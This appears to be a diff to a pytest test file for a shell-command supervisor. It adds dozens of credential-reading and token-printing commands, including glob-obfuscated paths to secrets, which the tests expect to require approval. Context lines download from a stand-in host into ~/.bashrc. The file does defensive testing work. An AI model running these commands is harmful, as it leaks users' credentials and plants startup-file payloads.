@@ -126,6 +126,43 @@ ASK_EVERYWHERE = [
     "wget -e output_document=~/.bashrc http://x.example",
     "curl --output=~/.zshrc http://x.example",
     "curl -o~/.bashrc http://x.example",
+    # more tools' credential stores, browsers' logins, histories, other processes' environment
+    "cat ~/.config/git/credentials",
+    "cat ~/.m2/settings.xml",
+    "cat ~/.gradle/gradle.properties",
+    "cat ~/.yarnrc.yml",
+    "cat ~/.s3cfg",
+    "cat ~/.boto",
+    "cat ~/.config/rclone/rclone.conf",
+    "cat ~/.my.cnf",
+    "cat ~/.local/share/keyrings/login.keyring",
+    "cat ~/.mozilla/firefox/x.default/logins.json",
+    "cat ~/.config/google-chrome/Default/Login\\ Data",
+    "cat ~/.bash_history",
+    "cat /proc/1/environ",
+    "grep -r token ~/.config/gh",
+    # a glob that reaches a secret
+    "cat ~/.a?s/credentials",
+    "cat ~/.ss[h]/id_rsa",
+    "cat ~/.kube/conf?g",
+    # commands that print a credential
+    "gh auth token",
+    "gh auth status -t",
+    "gcloud auth print-access-token",
+    "gcloud auth application-default print-access-token",
+    "az account get-access-token",
+    "aws configure get aws_secret_access_key",
+    "aws ecr get-login-password",
+    "kubectl config view --raw",
+    "kubectl get secret db -o yaml",
+    "vault kv get secret/db",
+    "op read op://vault/item/password",
+    "security find-generic-password -w -s x",
+    "secret-tool lookup service x",
+    "pass show email",
+    "git credential fill <<< 'host=github.com'",
+    "docker-credential-desktop get <<< https://index.docker.io/v1/",
+    "export F=~/.aws/credentials; cat $F",
 ]
 ORDINARY = [
     "less +G f",
@@ -144,6 +181,22 @@ ORDINARY = [
     "gpg --export x",
     "gpg --list-keys",
     "perl -ne 'print if /x/' f",
+    "cat ~/.ssh/known_hosts",
+    "ls ~/.config/g?",
+]
+# Ordinary uses of the credential tools (not in the strict allowlist: judged in manual).
+MANUAL_ORDINARY = [
+    "gh pr list",
+    "gh auth login",
+    "gcloud config list",
+    "aws s3 ls",
+    "aws configure list",
+    "kubectl get pods",
+    "kubectl config view",
+    "vault status",
+    "security list-keychains",
+    "KUBECONFIG=~/.kube/config kubectl get pods",
+    "export PATH=$PATH:~/bin",
 ]
 BLOCKED, ASK, APPROVED = "blocked", "ask", "approved"
 
@@ -201,4 +254,9 @@ def test_secret_exports_and_start_up_file_downloads_ask_in_every_mode(
 @pytest.mark.parametrize("line", ORDINARY)
 def test_ordinary_uses_stay_allowlisted(sup: Supervisor, line: str) -> None:
     assert _outcome(sup, "strict", line) == APPROVED
+    assert _outcome(sup, "manual", line) == APPROVED
+
+
+@pytest.mark.parametrize("line", MANUAL_ORDINARY)
+def test_ordinary_uses_of_credential_tools_are_not_secret_reads(sup: Supervisor, line: str) -> None:
     assert _outcome(sup, "manual", line) == APPROVED
